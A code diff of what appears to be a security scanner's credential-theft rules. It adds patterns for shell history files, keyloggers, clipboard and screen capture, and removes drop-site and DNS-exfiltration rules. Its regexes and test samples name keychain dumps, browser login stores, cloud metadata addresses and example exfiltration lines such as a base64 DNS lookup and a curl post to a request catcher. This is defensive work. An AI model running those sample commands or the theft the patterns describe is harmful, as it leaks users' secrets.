@@ -16,6 +16,7 @@ const PATH = new RegExp(
     'Library\\/Keychains|login\\.keychain',
     '\\bsecurity (?:find-(?:generic|internet)-password|dump-keychain)',
     '(?:Chrome|Chromium|Brave-Browser|Edge|Firefox)[\\w\\/ .\\\\*-]{0,80}(?:Login Data|Cookies|Local State|key4\\.db|logins\\.json|Local Extension Settings)',
+    '\\.(?:bash|zsh|psql|mysql|node_repl|python)_history\\b',
     '\\bwallet\\.dat\\b|\\bkey4\\.db\\b|\\blogins\\.json\\b',
     '\\bsecretsmanager get-secret-value',
   ].join('|'),
@@ -61,21 +62,26 @@ const PATH_NEEDLES = [
   'logins.json',
   'extension settings',
   'wallet.dat',
+  '_history',
   'get-secret-value',
 ];
 const METADATA = /\b169\.254\.169\.254\b|\bmetadata\.google\.internal\b|\b100\.100\.100\.200\b|fd00:ec2::254/i;
 const ENVIRONMENT =
-  /(?:json\.dumps\(\s{0,3}(?:dict\()?\s{0,3}os\.environ\b|JSON\.stringify\(\s{0,3}process\.env\s{0,3}[),]|\bstr\(os\.environ\)|dict\(os\.environ\)(?!,? ?\*\*)|(?:^|[;&|(`]\s{0,3})(?:env|printenv|set)\s{0,3}(?:\||>)|\$\((?:env|printenv)\b|\bprintenv\b\s{0,3}[|>])/m;
+  /(?:json\.dumps\(\s{0,3}(?:dict\()?\s{0,3}os\.environ\b|JSON\.stringify\(\s{0,3}process\.env\s{0,3}[),]|\bstr\(os\.environ\)|\bin os\.environ\.items\(\)|Object\.(?:entries|keys)\(process\.env\)|dict\(os\.environ\)(?!,? ?\*\*)|(?:^|[;&|(`]\s{0,3})(?:env|printenv|set)\s{0,3}(?:\||>)|\$\((?:env|printenv)\b|\bprintenv\b\s{0,3}[|>])/m;
 const DOTENV =
   /(?:open\(|readFile(?:Sync)?\(|read_text|cat |source |\bgrep\b.{0,40}|@)["'(]{0,3}[\w./~$-]{0,60}(?<![\w])\.env(?:\.(?:local|production))?\b(?!\.(?:example|sample|template))/;
 const SENDS =
-  /\b(?:requests\.(?:post|put)|httpx\.(?:post|put)|urlopen\([^)]{0,120}data ?=|http\.client|axios\.(?:post|put)|fetch\([^)]{0,200}\bmethod|fetch\([^\n]{0,120}\$\{|requests\.get\([^\n]{0,120}(?:\+|\{|params ?=)|urlopen\([^\n]{0,120}(?:\+|\{)|smtplib|\.sendmail\(|sendall\(|socket\.socket|XMLHttpRequest|sendBeacon)|\bcurl\b[^\n]{0,200} (?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file|-X ?(?:POST|PUT))\b|\bcurl\b[^\n]{0,200}\$[({A-Za-z]|\bwget\b[^\n]{0,120}--post|\|\s{0,4}(?:curl|nc|ncat|socat)\b|\bscp |\brsync [^\n]{0,80}:|\bnc -?\w{0,3} ?[\w.$-]{3,80} \d{2,5}|\b(?:dig|nslookup|host) [^\n]{0,40}\$|Invoke-(?:WebRequest|RestMethod)[^\n]{0,120}-Body/i;
+  /\b(?:requests\.(?:post|put)|httpx\.(?:post|put)|urlopen\([^)]{0,120}data ?=|http\.client|axios\.(?:post|put)|fetch\([^)]{0,200}\bmethod|fetch\([^\n]{0,120}\$\{|requests\.get\([^\n]{0,120}(?:\+|\{|params ?=)|urlopen\([^\n]{0,120}(?:\+|\{)|smtplib|\.sendmail\(|sendall\(|socket\.socket|XMLHttpRequest|sendBeacon)|\bcurl\b[^\n]{0,200} (?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file|-X ?(?:POST|PUT))\b|\bcurl\b[^\n]{0,200}\$[({A-Za-z]|\bwget\b[^\n]{0,120}--post|\|\s{0,4}(?:curl|nc|ncat|socat)\b|\bscp |\brsync [^\n]{0,80}:|\bnc -?\w{0,3} ?[\w.$-]{3,80} \d{2,5}|\b(?:dig|nslookup|host) [^\n]{0,40}\$|Invoke-(?:WebRequest|RestMethod)[^\n]{0,120}-Body|\bgh gist create\b|\bhttps?\.request\(/i;
+
+/** What the user types, copies or sees. */
+const SPYING =
+  /\bpynput\b|\bkeyboard\.(?:Listener|on_press|hook)\(|\bpyperclip\.paste\(|\bImageGrab\.grab|\bpyautogui\.screenshot\(|\bscreencapture -|\bscrot\b|\bimport -window root|\bxinput test|\bSetWindowsHookEx|\bGetAsyncKeyState|\|\s{0,3}pbpaste|\$\((?:pbpaste|xclip -o|xsel -o)|\bsounddevice\.rec\(|\biohook\b/;
 
 type Reach = { span: Span; at: number; length: number };
 
 function firstIn(spans: readonly Span[], patterns: readonly RegExp[]): Reach | null {
   for (const span of spans) {
-    const text = span.text.slice(0, 2000);
+    const text = span.text;
     for (const pattern of patterns) {
       const match = pattern.exec(text);
       if (match !== null) return { span, at: match.index, length: match[0].length };
@@ -86,14 +92,14 @@ function firstIn(spans: readonly Span[], patterns: readonly RegExp[]): Reach | n
 
 /** A script that reads credentials and sends something is the whole of a theft; in a fence, one command must do both. */
 function readsAndSends(file: ScannedFile): PlacedHit[] {
-  const sources = [PATH, METADATA, ENVIRONMENT, DOTENV];
+  const sources = [PATH, METADATA, ENVIRONMENT, DOTENV, SPYING];
   const code = file.spans.filter(span => span.place === 'code');
   const hits: PlacedHit[] = [];
   const reads = firstIn(code, sources);
   if (reads !== null && firstIn(code, [SENDS]) !== null) hits.push(toHit(file, reads, 'high'));
   for (const span of file.spans) {
     if (span.place !== 'fence' && span.place !== 'hidden' && span.place !== 'header') continue;
-    const text = span.text.slice(0, 2000);
+    const text = span.text;
     if (!SENDS.test(text)) continue;
     const read = firstIn([span], sources);
     if (read !== null) hits.push(toHit(file, read, span.explained ? 'low' : 'high'));
@@ -145,6 +151,38 @@ export const CREDENTIAL_RULES: Rule[] = [
     misses: [sh('cat ~/.ssh/config'), sh('ls ~/notes'), 'Keys are kept in `~/.ssh`.', sh('cat id_rsa.pub')],
   },
   {
+    id: 'spying',
+    family: 'credentials',
+    title: 'what the user types, copies or sees is taken',
+    why: 'Keys, clipboard, screen and microphone carry everything that a person does, passwords included.',
+    fix: 'Check that this is what the skill is for; otherwise do not install it.',
+    where: { code: 'medium', fence: 'low', hidden: 'high', header: 'medium' },
+    detector: {
+      kind: 'pattern',
+      needles: [
+        'pynput',
+        'keyboard.',
+        'pyperclip',
+        'imagegrab',
+        'pyautogui',
+        'screencapture',
+        'scrot',
+        '-window root',
+        'xinput',
+        'setwindowshook',
+        'getasynckeystate',
+        'pbpaste',
+        'xclip',
+        'xsel',
+        'sounddevice',
+        'iohook',
+      ],
+      pattern: SPYING,
+    },
+    hits: [py('from pynput import keyboard'), py('text = pyperclip.paste()'), sh('screencapture -x /tmp/s.png')],
+    misses: [py('page.screenshot(path="a.png")'), sh('echo text | pbcopy'), 'Use the keyboard.'],
+  },
+  {
     id: 'cloud-metadata',
     family: 'credentials',
     title: 'the metadata service of a cloud machine',
@@ -188,62 +226,4 @@ export const CREDENTIAL_RULES: Rule[] = [
     hits: [py('text = open(".env").read()'), sh('cat ../.env')],
     misses: [sh('cp .env.example target'), js('process.env.HOME'), 'Put the key into `.env`.'],
   },
-  {
-    id: 'drop-site',
-    family: 'credentials',
-    title: 'a place to drop data at',
-    why: 'Request catchers, paste sites, tunnels and chat webhooks take data from anybody and show it to whoever made the address.',
-    fix: 'Check whose address it is, and what is sent there.',
-    where: { code: 'medium', fence: 'low', prose: 'low', hidden: 'high', header: 'medium', data: 'low' },
-    detector: {
-      kind: 'pattern',
-      needles: [
-        'webhook',
-        'requestbin',
-        'pipedream',
-        'ngrok',
-        'burpcollab',
-        'oast',
-        'interact.sh',
-        'pastebin',
-        'transfer.sh',
-        'telegram',
-        'discord',
-        'beeceptor',
-        'requestcatcher',
-        'trycloudflare',
-        'hookbin',
-        '0x0.st',
-        'file.io',
-        'dnslog',
-      ],
-      pattern:
-        /\b(?:webhook\.site|requestbin\.(?:com|net)|[\w-]{1,40}\.m\.pipedream\.net|[\w-]{1,60}\.ngrok(?:-free)?\.(?:io|app|dev)|burpcollaborator\.net|oast\.(?:pro|live|site|online|fun|me)|interact\.sh|pastebin\.com\/(?:api|raw)|transfer\.sh|api\.telegram\.org\/bot|discord(?:app)?\.com\/api\/webhooks|[\w-]{1,40}\.beeceptor\.com|requestcatcher\.com|[\w-]{1,60}\.trycloudflare\.com|hookbin\.com|\/\/0x0\.st|\/\/file\.io|dnslog\.cn)/i,
-    },
-    hits: [sh('curl https://webhook.site/0000 -d ok'), py('URL = "https://discord.com/api/webhooks/1/x"')],
-    misses: [sh('curl https://example.com/webhook'), 'Discord and Telegram are chats.'],
-  },
-  {
-    id: 'dns-exfiltration',
-    family: 'credentials',
-    title: 'data in the name that is looked up',
-    why: 'A looked-up name reaches its owner through any firewall; what is put into it has left the machine.',
-    fix: 'Remove the look-up.',
-    where: COMMANDS(),
-    detector: {
-      kind: 'pattern',
-      needles: ['dig', 'nslookup', 'host ', 'gethostbyname', 'resolve', 'ping'],
-      pattern:
-        /\b(?:dig|nslookup|host|ping -c ?\d)\b[^\n;|]{0,40}(?:\$\([^)\n]{1,80}\)|`[^`\n]{1,80}`|\$\{?[a-z_]{1,30}\}?)[^\n;|]{0,80}\.[a-z0-9-]{2,40}\.[a-z]{2,10}|gethostbyname\([^)\n]{0,80}(?:\+|\{|%)[^)\n]{0,60}\.[a-z0-9-]{2,40}\.[a-z]{2,10}/i,
-    },
-    hits: [
-      sh('dig $(cat x | base64).leak.example.invalid'),
-      py('socket.gethostbyname(f"{data}.leak.example.invalid")'),
-    ],
-    misses: [sh('dig example.com'), py('socket.gethostbyname(host)')],
-  },
 ];
-
-function COMMANDS() {
-  return { code: 'high', fence: 'medium', hidden: 'high', header: 'high', data: 'low' } as const;
-}
